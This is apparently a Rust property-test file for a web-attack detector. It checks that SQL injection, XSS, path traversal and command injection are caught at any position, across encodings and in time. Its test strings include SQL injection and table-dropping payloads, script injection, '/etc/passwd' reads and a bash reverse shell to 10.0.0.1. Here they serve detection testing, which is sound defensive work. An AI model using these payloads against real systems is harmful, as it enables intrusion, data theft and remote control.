//! What holds for every text, made up or hostile.

use proptest::collection::vec;
use proptest::prelude::{any, prop_assert, prop_assert_eq, prop_oneof, proptest};
use proptest::sample::select;
use proptest::strategy::Strategy;

use super::super::*;
use super::{ATTACKS, detector};

/// Attacks that need no more around them than they bring along: they are found in the middle of a letter, too.
const ANYWHERE: &[&str] = &[
    " ' UNION SELECT username, password FROM users-- ",
    " 1; DROP TABLE users; -- ",
    " <img src=x onerror=alert(1)> ",
    " <script>alert(1)</script> ",
    " ..%2f..%2f..%2fetc%2fpasswd ",
    " $(cat /etc/passwd) ",
    " ; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ",
];

/// Pieces that rules are made of, in any order.
fn pieces() -> impl Strategy<Value = Vec<u8>> {
    let piece = select(
        &[
            "'",
            "\"",
            "`",
            "(",
            ")",
            " or ",
            "AND",
            "union ",
            "select ",
            "from ",
            "1=1",
            "/*",
            "*/",
            "/*!",
            "--",
            "#",
            ";",
            "|",
            "&",
            "$(",
            "${",
            "<",
            ">",
            "<script",
            "onerror=",
            "javascript:",
            "alert(",
            "../",
            "..\\",
            "%2e",
            "%25",
            "%u0027",
            "&#39;",
            "\\x27",
            "\\u0027",
            "\u{ff07}",
            "\u{200b}",
            "/etc/passwd",
            "cat ",
            "sleep(5)",
            "case when ",
            "then ",
            "0x2e",
            "\n",
            "\0",
            "=",
            "@@",
            "{{",
            "<!",
            "<?",
            ",",
            ".",
            "-",
            "a",
            "MScgT1IgJzEnPScxJyAtLSBhYmM=",
            "declare @",
            "exec ",
        ][..],
    );
    vec(piece, 0..60).prop_map(|pieces| pieces.concat().into_bytes())
}

fn texts() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        pieces(),
        vec(any::<u8>(), 0..400),
        pieces().prop_map(|mut text| {
            text.truncate(text.len() / 2);
            text
        })
    ]
}

proptest! {
    /// Law: any bytes are read without a panic; what is found lies within them; the same text says the same again.
    #[test]
    fn any_bytes_are_read(text in texts()) {
        let report = detector().scan(&text);
        for found in report.findings() {
            prop_assert!(found.bytes.start <= found.bytes.end && found.bytes.end <= text.len(), "{found:?}");
        }
        prop_assert_eq!(&report, &detector().scan(&text));
        prop_assert_eq!(report.is_attack(), Category::ALL.iter().any(|category| report.score(*category) >= 5));
        let request = Request {
            path: &text,
            query: &text,
            headers: &[("x", &text)],
            body: if text.len() % 2 == 0 { Body::Json(&text) } else { Body::Form(&text) },
        };
        let seen = detector().inspect(&request);
        prop_assert!(!report.is_attack() || seen.is_attack());
    }

    /// Law: a category that is not looked for says nothing, and changes nothing for the others.
    #[test]
    fn categories_are_independent(text in texts(), wanted in select(Category::ALL)) {
        let all = detector().scan(&text);
        let one = Detector::new(&Options { categories: vec![wanted], ..Options::default() }).scan(&text);
        for category in Category::ALL {
            let expected = if *category == wanted { all.score(wanted) } else { 0 };
            prop_assert_eq!(one.score(*category), expected, "{}", category);
        }
    }

    /// Law: nor does a long text hide what is encoded.
    #[test]
    fn a_long_text_hides_no_encoding(before in 0usize..9000, behind in 0usize..9000, other in 0usize..9000, attack in select(ANYWHERE)) {
        let filler = "Ordinary words, one after the other; (some) more of them. ".repeat(160);
        let attack: String = attack.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let text = format!("{}%C3%A9 {} {attack} {}", &filler[..other], &filler[..before], &filler[..behind]);
        prop_assert!(detector().scan(text.as_bytes()).is_attack(), "{attack} at {before}");
    }

    /// Law: an attack is found wherever it stands in a long text.
    #[test]
    fn a_long_text_hides_nothing(before in 0usize..9000, behind in 0usize..9000, attack in select(ANYWHERE)) {
        let filler = "Ordinary words, one after the other; (some) more of them. ".repeat(160);
        let text = format!("{}{attack}{}", &filler[..before], &filler[..behind]);
        let report = detector().scan(text.as_bytes());
        prop_assert!(report.is_attack(), "{attack} at {before}");
        let near = |found: &Finding| found.bytes.start < before + attack.len() && found.bytes.end > before;
        prop_assert!(report.findings().iter().any(near), "{:?}", report.findings());
    }
}

#[test]
fn an_encoding_hides_nothing() {
    let url = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    let twice = |text: &str| url(text).replace('%', "%25");
    let units = |text: &str| text.encode_utf16().map(|unit| format!("%u{unit:04X}")).collect::<String>();
    let decimal = |text: &str| text.chars().map(|c| format!("&#{};", u32::from(c))).collect::<String>();
    let hexadecimal =
        |text: &str| text.chars().map(|c| format!("&#x{:x}", u32::from(c)) + ";").collect::<String>();
    let escaped = |text: &str| text.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect::<String>();
    let wide = |c: char| match c {
        '!'..='~' => char::from_u32(u32::from(c) + 0xfee0).unwrap(),
        other => other,
    };
    let full_width = |text: &str| text.chars().map(wide).collect::<String>();
    type Form<'f> = &'f dyn Fn(&str) -> String;
    let forms: [(&str, Form); 7] = [
        ("url", &url),
        ("url twice", &twice),
        ("units", &units),
        ("decimal", &decimal),
        ("hexadecimal", &hexadecimal),
        ("escaped", &escaped),
        ("full width", &full_width),
    ];
    let mut missed = Vec::new();
    for (category, attacks) in ATTACKS {
        for attack in *attacks {
            for (name, form) in forms {
                // Text beyond ASCII has no such form, and four layers are as many as are taken off.
                if !attack.is_ascii() || attack.contains("%25") && name == "url twice" {
                    continue;
                }
                let text = form(attack);
                let report = detector().scan(text.as_bytes());
                if !report.categories().any(|found| found == *category) {
                    missed.push(format!("{category} as {name}: {attack}"));
                }
            }
        }
    }
    assert!(missed.is_empty(), "\n{}", missed.join("\n"));
}

#[test]
fn an_encoded_find_is_told_where_it_stood() {
    let text = b"name=%27%20UNION%20SELECT%201%2C2%20--";
    let report = detector().scan(text);
    let union = report.findings().iter().find(|found| found.rule.name == "sql/union").unwrap();
    assert_eq!(&text[union.bytes.clone()], b"UNION%20SELECT");
    assert_eq!(union.encodings.names().collect::<Vec<_>>(), ["url"]);
    let report = detector().scan(b"x=MScgVU5JT04gU0VMRUNUIDEsMiAtLSBhYg==");
    let found = report.findings().iter().find(|found| found.rule.name == "sql/union").unwrap();
    assert!(found.encodings.has(Encodings::BASE64) && found.bytes.start == 2, "{found:?}");
}

#[test]
fn far_apart_weak_reasons_do_not_add_up() {
    let apart = |gap: &str| detector().scan(format!("concat(a){gap} (select 1) from b").as_bytes());
    assert_eq!((apart("").score(Category::Sql), apart("").is_attack()), (5, true));
    let far = apart(&" word".repeat(400));
    assert_eq!((far.score(Category::Sql), far.is_attack()), (4, false));
}

#[test]
fn a_text_longer_than_is_read_says_so() {
    let long = vec![b'a'; LONGEST + 1];
    assert!(detector().scan(&long).cut);
    assert!(!detector().scan(&long[..LONGEST]).cut);
}

#[test]
fn what_is_made_to_be_slow_is_read_in_time() {
    use seawall_core::Clock as _;
    let clock = seawall_core::clock::SystemClock::new();
    for piece in [
        "' or ",
        "/*",
        "/**/",
        "#\n",
        "--\n",
        "(select ",
        "<a ",
        "<a b ",
        "../",
        ";|&`$(",
        "%25252525",
        "&#38;#38;lt;",
        "case when(",
        "MScgT1IgJzEnPScxJyAtLSBhYmM= ",
        "or 1 in (",
        "union(",
        "a/*!",
        "\\u005cu005cu005c",
        "'--",
        "<!--#",
        "\u{ff07}",
        "0x2e",
        "{\"a\":[",
        "a.b.",
        "select a,",
        "/etc/",
        "@@a",
        "&amp;",
    ] {
        let text: Vec<u8> = piece.bytes().cycle().take(1 << 20).collect();
        let began = clock.now();
        detector().scan(&text);
        detector().inspect(&Request { body: Body::Json(&text), ..Request::default() });
        let took = began.until(clock.now());
        assert!(took < std::time::Duration::from_secs(10), "{piece:?} took {took:?}");
    }
}
